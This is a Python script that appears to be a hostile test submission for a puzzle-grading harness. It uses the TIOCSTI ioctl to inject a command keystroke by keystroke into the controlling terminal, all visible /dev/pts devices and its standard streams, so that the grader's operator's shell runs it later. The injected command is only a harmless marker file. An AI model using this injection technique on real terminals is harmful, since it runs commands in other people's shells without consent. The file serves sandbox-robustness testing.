# Hostile: no solver. It pushes a command, keystroke by keystroke
# (TIOCSTI), into every terminal it can open: its controlling terminal
# (/dev/tty), its standard streams, and every /dev/pts it can see, so that
# the teacher's shell runs it after the grader exits. It says on stderr
# where it pushed, and exits 1.
import fcntl
import glob
import os
import sys
import termios

COMMAND = b"touch /tmp/queens-hostile-tiocsti-pushed\n"
pushed = []


def push(name, fd):
    try:
        for byte in COMMAND:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        pushed.append(name)
    except OSError:
        pass


for name in ["/dev/tty"] + sorted(glob.glob("/dev/pts/[0-9]*")):
    try:
        fd = os.open(name, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    push(name, fd)
    os.close(fd)
for fd in (0, 1, 2):
    push("fd %d" % fd, fd)
sys.stderr.write("tiocsti: pushed into %s\n" % (", ".join(pushed) or "nothing"))
sys.exit(1)
